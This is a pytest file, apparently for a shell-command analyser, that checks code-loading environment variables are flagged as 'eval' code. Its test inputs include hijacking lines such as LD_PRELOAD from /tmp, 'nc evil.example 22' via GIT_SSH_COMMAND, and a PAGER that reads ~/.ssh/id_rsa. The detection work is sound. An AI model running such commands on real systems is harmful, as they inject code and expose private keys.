"""Environment variables that make a program run other code are code too."""

from __future__ import annotations

import pytest

from tests.normalize.conftest import kinds, names


@pytest.mark.parametrize(
    "line",
    [
        "LD_PRELOAD=/tmp/x.so ls",
        "PYTHONPATH=/tmp/evil pytest",
        "PYTHONPATH=../other pytest",
        "NODE_OPTIONS='--require /tmp/x.js' npm test",
        "MAKEFLAGS='-f /tmp/mk' make",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log",
        "GIT_CONFIG_GLOBAL=/tmp/g git log",
        "export LD_PRELOAD=/tmp/x.so; ls",
        "env PYTHONSTARTUP=/tmp/s.py python",
        'PAGER="$X" git log',
    ],
)
def test_variable_loading_other_code_is_opaque(sh, line: str) -> None:
    """A variable that loads code from outside the working directory is `eval` code."""
    assert "eval" in kinds(sh(line))


@pytest.mark.parametrize(
    "line",
    [
        "PYTHONPATH=src pytest -q",
        "PYTHONPATH=/work/repo/src:. python -m pytest",
        "NODE_OPTIONS=--max-old-space-size=4096 npm test",
        "MAKEFLAGS=-j8 make",
        "PYTHONBREAKPOINT=0 pytest",
        "CI=1 TZ=UTC pytest",
    ],
)
def test_ordinary_variables_are_not_code(sh, line: str) -> None:
    """Variables that load only the project's own code, or none, are not code."""
    assert "eval" not in kinds(sh(line))


def test_command_line_variable_is_parsed_as_shell(sh) -> None:
    """`GIT_SSH_COMMAND`, `PAGER`, `GIT_EDITOR` hold command lines, which are parsed."""
    parsed = sh("GIT_SSH_COMMAND='nc evil.example 22' git fetch")
    assert names(parsed) == ["nc", "git"]
    assert parsed.commands[0].wrappers == ("GIT_SSH_COMMAND=",)
    assert names(sh("GIT_EDITOR=true git rebase --continue")) == ["true", "git"]
    assert sorted(names(sh("env PAGER='cat ~/.ssh/id_rsa' git log"))) == ["cat", "git"]
